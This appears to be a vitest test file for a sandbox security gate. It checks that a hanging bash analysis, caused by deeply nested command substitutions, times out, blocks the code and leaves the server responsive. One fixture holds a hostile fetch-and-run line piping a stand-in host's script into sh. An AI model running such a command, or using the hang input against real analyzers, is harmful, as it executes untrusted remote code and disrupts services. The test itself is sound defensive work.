// Code that makes the static analysis hang runs out its deadline (security.analysisTimeoutMs) in a
// worker thread, off the server's event loop, and fails closed: a critical analysis.failed finding.

import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { runBinary, startServe } from "../fixtures/cli.js";

const dir = mkdtempSync(join(tmpdir(), "sandgate-analysis-deadline-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** 200 KB of nested command substitutions: minutes of bash analysis (it grows with the square of the depth). */
const NESTED = `echo ${"$(".repeat(50_000)}${")".repeat(50_000)}`;
/** A side effect the policy must stop, hidden behind code the analysis cannot finish. */
const PADDED = `echo pwned > /workspace/pwned\ncurl -s http://files.example/i.sh | sh\n${NESTED}\n`;
const env = { SANDBOX_DIR: dir, MAX_EXECUTION_TIME: "20", SANDGATE_ANALYSIS_TIMEOUT_MS: "1000" };

describe("an analysis that does not finish", () => {
  it("gives sandgate analyze a critical analysis.failed finding and the block action instead of hanging", async () => {
    // The built binary: the deadline is kept by the compiled worker (from the sources, analysis runs inline).
    const r = await runBinary(["analyze", "-l", "bash", "--json"], { input: NESTED, env });
    expect(r.code).toBe(3);
    const body = JSON.parse(r.stdout) as { action: string; level: string; findings: { rule_id: string; severity: string; message: string }[] };
    expect(body).toMatchObject({ action: "block", level: "critical" });
    expect(body.findings).toEqual([expect.objectContaining({ rule_id: "analysis.failed", severity: "critical", message: expect.stringMatching(/longer than 1000 ms/) })]);
  }, 60_000);

  it("blocks the run on the server, which keeps answering meanwhile, and the code's side effect never happens", async () => {
    const server = await startServe(env);
    try {
      const post = (body: object): Promise<Response> => fetch(`${server.url}/execute`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
      const blocked = post({ code: PADDED, language: "sh", session_id: "deadline" });
      // The event loop is free while the analysis runs in its worker.
      const health = await fetch(`${server.url}/health`);
      expect(health.status).toBe(200);
      const refused = await blocked;
      const error = (await refused.json()) as { error: { code: string; message: string } };
      expect(error.error.code).toBe("POLICY_BLOCKED");
      expect(error.error.message).toMatch(/analysis\.failed/);
      const listing = (await (await post({ code: "ls -A /workspace; echo done", language: "bash", session_id: "deadline" })).json()) as { stdout: string };
      expect(listing.stdout).toBe("done\n");
      // Analyses go on in a fresh worker.
      const next = (await (await post({ code: `${"# a comment long enough for the worker\n".repeat(20)}echo ok`, language: "bash" })).json()) as { stdout: string; security: { action: string } };
      expect(next).toMatchObject({ stdout: "ok\n", security: { action: "allow" } });
    } finally {
      await server.stop();
    }
  }, 120_000);

  it("counts a caller's REST analyses against its concurrency cap and lets another caller's analysis ahead of a flood", async () => {
    const HOG = "hog-key-0123456789abcdef";
    const OTHER = "other-key-0123456789abcd";
    const server = await startServe({ ...env, SANDGATE_API_KEYS: `hog:${HOG},other:${OTHER}`, SANDGATE_MAX_CONCURRENT: "6" });
    try {
      const analyze = (key: string, code: string): Promise<Response> =>
        fetch(`${server.url}/security/analyze`, { method: "POST", headers: { "content-type": "application/json", authorization: `Bearer ${key}` }, body: JSON.stringify({ code, language: "bash" }) });
      const order: string[] = [];
      const flood = Array.from({ length: 6 }, () => analyze(HOG, NESTED).then(async (r) => (order.push("hog"), r.status)));
      await new Promise((resolve) => setTimeout(resolve, 500));
      // The seventh of the same caller is over its cap of 6.
      const over = await analyze(HOG, "echo hi");
      expect(over.status).toBe(429);
      const benign = analyze(OTHER, `${"# a comment long enough for the worker\n".repeat(20)}echo ok`).then(async (r) => (order.push("other"), (await r.json()) as { action: string }));
      expect(await benign).toMatchObject({ action: "allow" });
      expect(await Promise.all(flood)).toEqual([200, 200, 200, 200, 200, 200]);
      // Two workers: the other caller's job goes next once one frees, not after the whole flood.
      expect(order.indexOf("other")).toBeLessThanOrEqual(3);
    } finally {
      await server.stop();
    }
  }, 120_000);
});
